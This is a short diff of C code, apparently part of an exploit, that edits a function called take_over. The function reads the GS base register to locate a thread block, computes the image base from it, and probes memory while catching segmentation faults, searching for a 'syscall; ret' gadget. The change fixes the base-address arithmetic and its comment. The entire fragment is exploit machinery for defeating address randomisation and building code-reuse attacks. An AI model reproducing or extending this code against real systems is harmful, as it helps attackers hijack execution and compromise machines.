@@ -30,12 +30,12 @@ static unsigned long block, base;
 static sigjmp_buf not_there;
 static void skip_page(int signal) { (void)signal; siglongjmp(not_there, 1); }
 
-/* Through GS to the thread block, which lies in the first GiB of the kernel's stacks; the image is 1 GiB below, with gaps. */
+/* Through GS to the thread block of the first stack, which lies in the same GiB as the image, whose pages have gaps between them. */
 __attribute__((unused)) static void take_over(void) {
     struct sigaction old, action = {.sa_handler = skip_page};
     sigaction(SIGSEGV, &action, &old);
     __asm__ volatile("rdgsbase %0" : "=r"(block));
-    base = (block - GIB) & ~(GIB - 1);
+    base = block & ~(GIB - 1);
     for (unsigned char *volatile p = (unsigned char *)base; !gadget && p < (unsigned char *)base + (16ul << 20); p += PAGE) {
         if (sigsetjmp(not_there, 1)) continue;
         if (p[0] == 0x0f && p[1] == 0x05 && p[2] == 0xc3) gadget = p; /* syscall; ret */
